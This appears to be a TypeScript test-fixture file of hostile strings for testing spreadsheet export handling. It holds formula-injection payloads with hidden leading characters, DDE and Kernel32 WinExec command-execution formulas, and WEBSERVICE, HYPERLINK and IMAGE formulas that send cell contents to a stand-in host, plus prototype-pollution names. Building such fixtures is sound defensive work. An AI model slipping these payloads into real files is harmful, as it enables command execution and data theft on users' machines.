/** Texts that a spreadsheet would take for formulas: with each dangerous first character, and behind what looks blank. */
const BEGINNINGS = [
  ...['=', '+', '-', '@SUM', '\t=', '\r=', '\n=', '\0=', ' =', '＝', '＋', '－', '＠SUM', 'ー', "'=", '"='],
  ...['\ufeff=', '\u200b=', '\u00a0=', '\u3000=', ';=', ',=', '{='],
]

/** Each with figures of its own, so that no two are taken for the same name. */
const FORMULAS = BEGINNINGS.map((beginning, index) => `${beginning}(1,${index})`)

/** Formulas that reach outside the workbook. */
const REACHING = [
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://example.invalid/?"&A1,"x")',
  '=WEBSERVICE("http://example.invalid/"&A1)',
  '=IMPORTXML("http://example.invalid/","//a")',
  '=RTD("x.y","","z")',
  '=CALL("Kernel32","WinExec","JJ","calc",0)',
  '=FILTERXML("<a/>","//a")',
  '=IMAGE("http://example.invalid/"&A1)',
  "='[\\\\host\\s\\x.xlsx]S'!A1",
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
]

/** No formulas, but typed into a cell they would become something else. */
const CHANGED_BY_TYPING = [
  ...['1e5', '3-4', '12/3', 'TRUE', '0012', '1,234', '50%', '₩1000', '2024-08', '1월 2일', "'abc", "''"],
  ...['#N/A', '#REF!', '_x000D_', '_x005F_x000D_', 'a]]>b', '<b>&amp;</b>', '\ud83d\ude80 rocket'],
]

/** Names that every object of the language has. */
const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty']

/** All of them, each once. */
export const HOSTILE: readonly string[] = [...FORMULAS, ...REACHING, ...CHANGED_BY_TYPING, ...PROTOTYPE_NAMES]

/** Texts as long as a cell holds, and one more. */
export const LONG: readonly string[] = [`=${'가'.repeat(32_766)}`, `=${'나'.repeat(32_767)}`]
